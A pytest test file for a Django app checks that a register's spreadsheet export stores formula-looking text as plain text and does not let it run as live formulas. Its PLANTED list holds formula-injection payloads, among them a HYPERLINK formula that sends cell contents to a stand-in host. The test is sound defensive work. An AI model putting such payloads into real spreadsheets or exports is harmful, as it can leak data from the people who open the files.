"""A register export writes every text as text: a liaison cannot plant a live formula in the
officer's spreadsheet through an item or a progress report."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.tracking.conftest import make_item

pytestmark = pytest.mark.django_db

PLANTED = ['=HYPERLINK("http://example.invalid/?"&A1,"點此")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_formula_looking_text_is_exported_as_text(client, world):
    for text in PLANTED:
        make_item(world, text)
    client.force_login(world.officer)
    ws = load_workbook(io.BytesIO(client.get(reverse("tracking:register_xlsx")).content)).active
    cells = {row[2].value: row[2] for row in ws.iter_rows(min_row=2)}
    for text in PLANTED:
        cell = cells[text.strip()]  # the text itself (as the service keeps it), unchanged
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text  # and editing the cell in a spreadsheet keeps it text
